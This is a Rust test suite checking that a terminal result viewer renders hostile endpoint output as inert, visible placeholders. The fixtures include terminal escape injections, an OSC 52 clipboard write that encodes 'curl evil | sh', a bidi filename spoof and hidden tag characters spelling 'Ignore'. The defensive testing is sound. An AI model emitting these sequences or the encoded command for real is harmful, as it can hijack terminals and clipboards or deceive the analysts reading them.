//! A hostile-payload corpus rendered through the real viewer on `TestBackend`: nothing a
//! compromised endpoint returns may put a control byte on the analyst's screen, everything
//! is shown as a visible placeholder, and the raw bytes saved are exactly what came in.
//! Plus property tests (a fuzz run inside the suite) for the decoder and the sanitiser.

use std::sync::Arc;

use chrono::Utc;
use lrx::api::models::MachineAction;
use lrx::fetch::{FetchEvent, Fetched, ResultKey, ResultState};
use lrx::sanitize;
use lrx::transcript::decode;
use lrx::transcript::document::Document;
use lrx::tui::app::{App, Settings};
use lrx::tui::message::Message;
use lrx::tui::theme::{Theme, Variant};
use proptest::prelude::*;
use ratatui::crossterm::event::{KeyCode, KeyEvent, KeyModifiers};

fn transcript(output: &str) -> Vec<u8> {
    serde_json::json!({"script_name": "Get-Evil.ps1", "exit_code": 0, "script_output": output, "script_errors": ""}).to_string().into_bytes()
}

/// (name, payload bytes, text that must be on screen)
fn corpus() -> Vec<(&'static str, Vec<u8>, Vec<&'static str>)> {
    let two_mb_line = format!("{}END", "A".repeat(2 * 1024 * 1024));
    vec![
        ("clear screen", transcript("before\u{1b}[2Jafter"), vec!["before␛[2Jafter"]),
        ("OSC 52 clipboard write", transcript("\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}x"), vec!["␛]52;c;Y3VybCBldmlsIHwgc2g=␇x"]),
        ("OSC 8 link", transcript("\u{1b}]8;;http://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\"), vec!["␛]8;;http://evil.example/␛\\click"]),
        ("unterminated OSC", transcript("title \u{1b}]0;pwned and the rest of the line"), vec!["␛]0;pwned and the rest"]),
        ("DCS", transcript("\u{1b}P1$r0m\u{1b}\\ dcs"), vec!["␛P1$r0m␛\\ dcs"]),
        ("8-bit CSI", transcript("\u{9b}31mred"), vec!["<9B>31mred"]),
        ("NUL BEL BS", transcript("a\u{0}b\u{7}c\u{8}d"), vec!["a␀b␇c␈d"]),
        ("tab stops", transcript("a\tb\nabcdefgh\tc"), vec!["a       b", "abcdefgh        c"]),
        ("CR and CRLF", transcript("one\r\ntwo\rthree"), vec!["one", "two␍three"]),
        ("bidi RLO", transcript("invoice\u{202e}fdp.exe"), vec!["invoice<U+202E>fdp.exe"]),
        ("ZWJ", transcript("a\u{200d}b"), vec!["a<U+200D>b"]),
        ("tag characters hiding a prompt", transcript("benign\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065} end"), vec!["benign<hidden tag text: \"Ignore\"> end"]),
        ("line and paragraph separators", transcript("one\u{2028}two\u{2029}three"), vec!["one<U+2028>two<U+2029>three"]),
        ("soft hyphen", transcript("pass\u{ad}word"), vec!["pass<U+00AD>word"]),
        ("deprecated format controls", transcript("a\u{206a}b\u{206f}c"), vec!["a<U+206A>b<U+206F>c"]),
        ("Hangul filler", transcript("name\u{3164}x"), vec!["name<U+3164>x"]),
        ("variation selector run", transcript(&format!("emoji{}", "\u{fe0f}\u{e0101}".repeat(8))), vec!["emoji<16 variation selectors>"]),
        ("combining flood", transcript(&format!("Z{}", "\u{301}".repeat(10_000))), vec!["<+9996 marks>"]),
        ("invalid UTF-8", b"{\"script_name\":\"x\",\"exit_code\":0,\"script_output\":\"bad \xff\xfe bytes\",\"script_errors\":\"\"}".to_vec(), vec!["bad \u{fffd}\u{fffd} bytes", "invalid UTF-8"]),
        ("2 MB single line", transcript(&two_mb_line), vec!["AAAAAAAA"]),
        ("malformed JSON", b"{\"script_name\":\"x\",\"exit_code\":0,\"script_output\":\"cut off \x1b[2J".to_vec(), vec!["not valid JSON", "cut off ␛[2J"]),
        ("exit code as string", br#"{"script_name":"x","exit_code":"5","script_output":"five","script_errors":""}"#.to_vec(), vec!["exit 5", "five"]),
        ("exit code null", br#"{"script_name":"x","exit_code":null,"script_output":"none","script_errors":""}"#.to_vec(), vec!["exit ?", "none"]),
    ]
}

fn action() -> MachineAction {
    let mut action = lrx::fixtures::action(
        0xc141_bb71,
        "host\u{1b}[2J.corp",
        &["Get-\u{202e}Evil.ps1"],
        Utc::now(),
    );
    // The service's own text is untrusted too.
    action.requestor = "evil\u{1b}]0;owned\u{7}@contoso.com".into();
    action.requestor_comment = "comment \u{1b}[5m blink".into();
    action.commands[0].errors = vec!["error \u{1b}[31m red".into()];
    action
}

#[test]
fn the_corpus_renders_inert_and_visible_and_saves_byte_exact() {
    let dir = tempfile::tempdir().expect("tmp");
    for (name, payload, expected) in corpus() {
        let mut app = App::new(
            "t".into(),
            "c".into(),
            Settings {
                prefetch: false,
                ..Settings::default()
            },
            Utc::now(),
        );
        let _ = app.update(Message::listed(vec![action()]));
        for code in [KeyCode::Enter, KeyCode::Enter] {
            let _ = app.update(Message::Key(KeyEvent::new(code, KeyModifiers::NONE)));
        }
        let key = ResultKey::new(action().id, 0);
        let path = dir
            .path()
            .join(format!("{}.payload", lrx::files::safe_name(name)));
        std::fs::write(&path, &payload).expect("write");
        let fetched = Fetched {
            path: path.clone(),
            size: payload.len() as u64,
            sha256: "0".repeat(64),
            from_cache: false,
            team_share: lrx::fetch::TeamShare::Unshared,
            link_expires_at: None,
            file_name: None,
        };
        let _ = app.update(Message::Fetch(FetchEvent::State(
            key.clone(),
            ResultState::Ready(Arc::new(fetched)),
        )));
        let _ = app.update(Message::Decoded(
            key,
            Arc::new(Document::from_script(&payload, "0".repeat(64), false)),
        ));
        let theme = Theme {
            colored: true,
            variant: Variant::Dark,
        };
        let mut harness = lrx::tui::harness::Harness::new(app, 120, 40, theme);
        for wrap in [false, true] {
            harness.app.transcript.wrap = wrap;
            let text = harness.draw().text();
            for needle in &expected {
                assert!(
                    text.contains(needle),
                    "{name} (wrap {wrap}): screen lacks {needle:?}\n{text}"
                );
            }
            assert!(text.contains("host␛[2J"), "machine names are sanitised too");
        }
        // `s` saves the payload byte for byte.
        let target = dir
            .path()
            .join(format!("{}.saved", lrx::files::safe_name(name)));
        let notice = lrx::tui::save::save(&path, &target, lrx::tui::message::SaveKind::Payload);
        assert!(notice.starts_with("saved"), "{notice}");
        assert_eq!(
            std::fs::read(&target).expect("saved"),
            payload,
            "{name}: saved bytes differ"
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn sanitised_text_never_carries_a_control_character(text in any::<String>()) {
        let line = sanitize::line(&text);
        prop_assert!(!line.chars().any(|c| c.is_control() || (sanitize::placeholder(c).is_some())));
        let (document, _) = sanitize::document(&text);
        prop_assert!(!document.chars().any(|c| c != '\n' && (c.is_control() || sanitize::placeholder(c).is_some())));
    }

    #[test]
    fn sanitising_line_by_line_agrees_with_the_whole_document(text in "[a-z\r\n\t\u{1b}\u{301}é]{0,64}|\\PC{0,64}") {
        let (whole, whole_findings) = sanitize::document(&text);
        let (lines, line_findings) = sanitize::document_lines(&text);
        prop_assert_eq!(lines.join("\n"), whole);
        prop_assert_eq!(line_findings, whole_findings);
    }

    #[test]
    fn the_decoder_keeps_every_byte_it_cannot_parse(bytes in proptest::collection::vec(any::<u8>(), 0..2048)) {
        let result = decode::script_result(&bytes);
        // Whatever it was, nothing is lost: either it parsed, or it is shown as text.
        if result.problems.iter().any(|p| p.contains("not valid JSON") || p.contains("instead of a JSON object")) {
            prop_assert_eq!(result.script_output, String::from_utf8_lossy(&bytes).into_owned());
        }
        let document = Document::from_script(&bytes, String::new(), false);
        for line in document.section(lrx::transcript::document::Section::Output) {
            prop_assert!(!line.text.chars().any(char::is_control));
        }
    }

    #[test]
    fn transcripts_with_arbitrary_text_round_trip(output in any::<String>(), errors in any::<String>(), code in any::<i64>()) {
        let payload = serde_json::json!({"script_name": "x", "exit_code": code, "script_output": output, "script_errors": errors}).to_string();
        let result = decode::script_result(payload.as_bytes());
        prop_assert_eq!(result.exit_code, decode::ExitCode::Code(code));
        prop_assert_eq!(result.script_output, output);
        prop_assert_eq!(result.script_errors, errors);
        prop_assert!(result.problems.is_empty());
    }
}
